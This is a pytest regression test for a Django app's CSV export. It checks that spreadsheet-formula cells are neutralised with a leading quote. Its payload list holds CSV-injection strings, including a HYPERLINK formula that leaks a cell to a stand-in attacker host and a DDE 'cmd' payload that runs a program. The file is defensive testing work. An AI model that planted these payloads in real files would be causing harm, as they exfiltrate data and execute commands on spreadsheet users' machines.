"""Finding 14: the CSV export's formula guard let `- 1+HYPERLINK(…)` and `-\\t…` through.

A spreadsheet evaluates a cell as a formula when its first character, after leading spaces,
tabs and line breaks, is one of ``= + - @`` (OWASP "CSV Injection"; ASVS 1.2.10), so every such
cell, and every cell that starts with a tab, CR or another control character, must leave the
export with a leading single quote.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from seminar.reports import exports
from tests.factories import (
    ReviewerSlotFactory,
    ReviewFactory,
    ReviewSectionFactory,
    TermFactory,
    TopicFactory,
    UserFactory,
    WeekFactory,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fixed_clock")]

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '- 1+HYPERLINK("http://evil.example/?leak="&A1)',
    "-\t1+1",
    "-\r\n=1+1",
    '=HYPERLINK("http://evil.example","click")',
    "=cmd|' /C calc'!A0",
    " =1+1",
    "   @SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n-2+3",
    "\u3000=1+1",  # ideographic space, typed by a Korean input method
    "\u00a0+1",
    "\u200b=1+1",  # zero-width space: invisible
    "\ufeff=1+1",
    "＝1+1",  # full-width "=", which some spreadsheets read as "="
    "＋1",
    "－1",
    "＠SUM(1)",
    "\t",
    "\r",
]
HARMLESS = ["1. 문제 정의\n\n좋다", "좋다 - 아주", "a=b", "3.5", "(1+1)", "'=already quoted"]


def _term_with_reviews(bodies: list[str], titles: list[str] | None = None):
    """A term with one topic and one submitted review per body, in this order."""
    term = TermFactory(name="2026 봄")
    starts = timezone.now() - timedelta(days=7)
    week = WeekFactory(term=term, number=1, starts_at=starts, review_deadline=starts)
    reviewer = UserFactory(name="리뷰어")
    for order, body in enumerate(bodies, start=1):
        title = titles[order - 1] if titles else f"Paper {order}"
        topic = TopicFactory(week=week, order=order, title=title)
        slot = ReviewerSlotFactory(topic=topic, number=1, reviewer=reviewer)
        review = ReviewFactory(
            slot=slot, author=reviewer, status="submitted", submitted_at=timezone.now()
        )
        ReviewSectionFactory(review=review, order=1, heading="", body=body)
    return term


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_csv_export_quotes_every_cell_a_spreadsheet_would_run_as_a_formula():
    term = _term_with_reviews(PAYLOADS + HARMLESS, titles=PAYLOADS + HARMLESS)
    rows = _rows(exports.reviews_csv(term))
    assert len(rows) == len(PAYLOADS) + len(HARMLESS)
    formulas, ordinary = rows[: len(PAYLOADS)], rows[len(PAYLOADS) :]
    let_through = [
        (column, row[column])
        for row in formulas
        for column in ("review", "topic_title")
        if not row[column].startswith("'")
    ]
    assert let_through == []
    assert [row["review"] for row in formulas] == ["'" + payload for payload in PAYLOADS]
    assert [row["topic_title"] for row in formulas] == ["'" + payload for payload in PAYLOADS]
    # Text that does not start a formula is exported as written.
    assert [row["review"] for row in ordinary] == HARMLESS
    assert [row["topic_title"] for row in ordinary] == HARMLESS


def test_csv_export_quotes_a_member_name_that_is_a_formula():
    term = _term_with_reviews(["좋다"])
    reviewer = term.weeks.get().topics.get().slots.get().reviewer
    type(reviewer).objects.filter(pk=reviewer.pk).update(name='- 1+HYPERLINK("http://x")')
    (row,) = _rows(exports.reviews_csv(term))
    assert row["reviewer"] == '\'- 1+HYPERLINK("http://x")'


def test_formula_guard_also_quotes_a_leading_nul_which_postgresql_cannot_store():
    from seminar.reports.exports import spreadsheet_cell

    assert spreadsheet_cell("\x00=1+1") == "'\x00=1+1"
    assert spreadsheet_cell("") == ""
    assert spreadsheet_cell(3) == 3
